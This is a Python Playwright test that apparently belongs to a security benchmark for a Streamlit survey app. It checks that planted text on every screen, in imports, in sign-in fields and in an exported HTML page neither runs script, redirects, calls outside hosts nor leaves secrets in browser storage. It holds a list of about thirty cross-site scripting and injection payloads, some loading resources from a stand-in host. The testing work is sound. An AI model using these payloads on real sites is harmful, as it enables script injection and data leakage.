"""Script in every text that is entered or imported: each screen and the page taken home, seen in Chromium.

Nothing of it may run, lead elsewhere, ask another machine for anything, or stay in the browser.
"""

from __future__ import annotations

import shutil
from typing import Any
from urllib.parse import quote, urlsplit

from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright

from assessment.app.screens import SCREENS
from benchmarks.campaigns.apart import MARKS
from benchmarks.campaigns.leaving import export
from benchmarks.campaigns.people import instrument
from benchmarks.campaigns.planted import foreign_file
from benchmarks.campaigns.promise import Attacked
from benchmarks.campaigns.web import Site, site

CHROMIUM = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
FLAGS = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-sync",
    "--no-first-run",
)
RUN = "window.ran=1"
AWAY = "http://elsewhere.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"[x](javascript:{RUN})",
    f"![x]({AWAY}/a.png)",
    f"<a href='javascript:{RUN}'>x</a>",
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<script src={AWAY}/a.js></script>",
    f"<link rel=stylesheet href={AWAY}/a.css>",
    f"<style>@import url({AWAY}/a.css)</style>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f":material/home: <b onclick={RUN}>x</b> :red[{AWAY}]",
    f"[![x]({AWAY}/b.png)]({AWAY})",
)
VISITORS = ("chief-alfa", "admin", "respondent", "vera-alfa")


def scripts(attacked: Attacked, count: int) -> None:
    """``count`` payloads, each in the texts of two organizations; attempts are pages seen."""
    path = next(filter(None, map(shutil.which, CHROMIUM)), None)
    if path is None:
        attacked.find("no Chromium is installed: nothing was tried")
        return
    shown = requests = 0
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=[*FLAGS])
        for payload in PAYLOADS[:count]:
            with site(f" {payload}") as running:
                _page_taken_home(attacked, running, browser, payload)
                for who in VISITORS:
                    context = browser.new_context()
                    asked = _watched(attacked, running, context, payload)
                    shown += _look_around(attacked, running, context, who, payload)
                    requests += len(asked)
                    context.close()
                for fault in running.faults():
                    attacked.find(f"{fault}, with {payload}")
        browser.close()
    if not shown:
        attacked.find("no page showed the texts: the attack sees nothing")
    attacked.note = f"{min(count, len(PAYLOADS))} payloads, on {shown:,} pages, {requests:,} requests"


def _watched(attacked: Attacked, running: Site, context: BrowserContext, payload: str) -> list[str]:
    """Count each request that goes elsewhere, each dialog, each script that the policy had to stop."""
    asked: list[str] = []
    own = (running.origin, running.origin.replace("http", "ws", 1), "data:", "blob:")

    def requested(request: Any) -> None:
        asked.append(request.url)
        if not request.url.startswith(own):
            where = urlsplit(request.frame.url).path
            attacked.find(f"outward request to {request.url} from {where} with {payload}")

    def said(message: Any) -> None:
        if "Content Security Policy" in message.text:
            attacked.find(f"the content policy had to stop {payload}: {message.text}")

    def dialog(shown: Any) -> None:
        attacked.find(f"a dialog opens with {payload}")
        shown.dismiss()

    context.on("request", requested)
    context.on("console", said)
    context.on("dialog", dialog)
    return asked


def _look_around(attacked: Attacked, running: Site, context: BrowserContext, who: str, payload: str) -> int:
    """See every screen; on how many the planted text stands."""
    name, _, token = running.people[who][0].partition("=")
    context.add_cookies([{"name": name, "value": token, "url": running.origin, "httpOnly": True}])
    page, shown = context.new_page(), 0
    for path in SCREENS.values() if who != "respondent" else ("",):
        wave = quote(f"2025 {payload}")
        page.goto(f"{running.origin}/{path}?organization=alfa&wave={wave}&lang=nl")
        _drawn(page)
        shown += _seen(attacked, page, running.origin, f"/{path} as {who}", payload)
        if path == SCREENS["import_answers"] and who == VISITORS[0]:
            shown += _import(attacked, page, running.origin, payload)
        kept = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie])")
        if token in kept or "ALFAMERK" in kept:
            attacked.find(f"/{path} keeps a secret or a name in the browser as {who}")
    if who == "respondent":
        _typed(attacked, page, running.origin, payload)
    return shown


def _seen(attacked: Attacked, page: Page, origin: str, where: str, payload: str) -> bool:
    """One look: nothing ran and nothing led away; whether the planted text stands there."""
    attacked.attempts += 1
    if page.evaluate("window.ran"):
        attacked.find(f"{payload} runs on {where}")
    if not page.url.startswith(origin):
        attacked.find(f"{payload} leads {where} to {page.url}")
    return MARKS["alfa"] in page.inner_text("body")


def _import(attacked: Attacked, page: Page, origin: str, payload: str) -> bool:
    """Another tool's answers with the payload in their names: the preview tells what is dropped."""
    for wrong, sign in ((True, "[data-testid=stAlert]"), (False, ".st-key-import-wave")):
        file = foreign_file(instrument(), f" {MARKS['alfa']} {payload}", wrong=wrong)
        name = f"{payload[:60]}.csv".replace("/", "-")
        page.set_input_files(
            "input[type=file]", files=[{"name": name, "mimeType": "text/csv", "buffer": file}]
        )
        page.wait_for_selector(sign, timeout=30_000)
        _drawn(page)
        _seen(attacked, page, origin, f"an import, wrong: {wrong}", payload)
    page.fill(".st-key-import-wave input", payload[:60])
    page.press(".st-key-import-wave input", "Enter")
    _drawn(page)
    return _seen(attacked, page, origin, "the preview of an import", payload)


def _typed(attacked: Attacked, page: Page, origin: str, payload: str) -> None:
    """Fields of pages without Streamlit, and the address itself."""
    for path, field in (("sign-in", "#account"), ("room", "#code")):
        page.goto(f"{origin}/{path}?lang={quote(payload)}&token={quote(payload)}")
        page.fill(field, payload[:120])
        for other in page.query_selector_all("input[type=password]"):
            other.fill("not the password")
        page.press(field, "Enter")
        page.wait_for_timeout(500)
        _seen(attacked, page, origin, f"/{path}, typed", payload)
    for path in ("", SCREENS["results"], f"no-such-page/{quote(payload)}"):
        page.goto(
            f"{origin}/{path}?organization={quote(payload)}&wave={quote(payload)}&lang={quote(payload)}"
        )
        page.wait_for_timeout(1000)
        _seen(attacked, page, origin, f"/{path}, by its address", payload)


def _page_taken_home(attacked: Attacked, running: Site, browser: Browser, payload: str) -> None:
    """The file for a browser, opened as the one who got it opens it: from a folder."""
    out = running.folder / "out"
    export(running.folder / "data", "page", "alfa", f"2025 {payload}", out, "nl")
    (file,) = out.glob("*.html")
    context = browser.new_context()
    context.on("request", lambda asked: _only_here(attacked, asked.url, payload))
    context.on("dialog", lambda _: attacked.find(f"{payload} opens a dialog in the page taken home"))
    page = context.new_page()
    page.goto(file.as_uri())
    page.wait_for_timeout(300)
    if not _seen(attacked, page, file.as_uri(), "the page taken home", payload):
        attacked.find("the page taken home does not show the texts: the attack sees nothing")
    context.close()


def _only_here(attacked: Attacked, address: str, payload: str) -> None:
    if not address.startswith(("file:", "data:", "blob:")):
        attacked.find(f"the page taken home asks {address} with {payload}")


def _drawn(page: Page) -> None:
    """Wait until Streamlit has drawn the page."""
    page.wait_for_selector("[data-testid=stApp][data-test-script-state=notRunning]", timeout=30_000)
    page.wait_for_timeout(200)
